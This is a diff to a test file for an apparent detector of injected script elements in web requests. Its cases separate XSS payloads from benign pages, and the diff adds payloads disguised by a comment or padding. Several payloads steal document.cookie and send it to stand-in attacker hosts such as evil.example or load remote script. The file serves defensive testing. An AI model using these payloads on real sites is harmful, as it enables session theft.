@@ -862,6 +862,9 @@ const SCRIPT_ELEMENT: Case[] = [
   ["body:json", JSON.stringify({ bio: "hi</textarea><script>location='//evil.example/?c='+document.cookie</script>" })],
   ["query", "q=<script/src=//evil.example/x.js></script>"],
   ["body:form", "c=<script type=text/javascript>\n// load\nnew Image().src='//x.example/'+document.cookie</script>"],
+  // A comment before it is no page; padding cut into pieces leaves it in its text.
+  ["query", "q=" + encodeURIComponent("<!-- x --><script>alert(1)</script>")],
+  ["query", "q=" + "a".repeat(40) + encodeURIComponent("        <script>alert(1)</script>")],
 ];
 const NOT_SCRIPT_ELEMENT: Case[] = [
   // A page's own: a comment, JSON-LD, a template, an empty element, a word that starts with `script`.
@@ -872,6 +875,10 @@ const NOT_SCRIPT_ELEMENT: Case[] = [
   ["query", "q=<scripts>alert(1)"],
   // A whole page sent as data (an editor extension's source): its scripts are its own.
   ["body:json", JSON.stringify({ srcdoc: "<!doctype html><html lang='en'><head><script src='https://cdn.example.com/sdk.js'></script></head><body><script>window.sdk.init(function (api) { api.window.startAutoResizer() })</script></body></html>" })],
+  // The same under its licence's comment, and one indented, whose runs of blanks cut it into pieces
+  // (decode/texts.ts addPieces) that do not open with its doctype.
+  ["body:json", JSON.stringify({ html: "<!--\n  Copyright (c) Example Corp.\n  Licensed under the Apache License, Version 2.0.\n-->\n<!DOCTYPE html>\n<html lang=\"en\"><head><title>Inspector</title><script type=\"module\" crossorigin src=\"/assets/index.js\"></script></head><body><div id=\"root\"></div></body></html>" })],
+  ["body:json", JSON.stringify({ html: "<!DOCTYPE html>\n<html>\n  <head>\n        <title>Release notes</title>\n        <script src=\"/assets/app.js\"></script>\n  </head>\n  <body>\n        <div id=\"root\"></div>\n  </body>\n</html>" })],
   ["query", "q=how to use the script tag"],
 ];
 // An event handler attribute that calls, outside any tag: a value breaking out of an attribute.
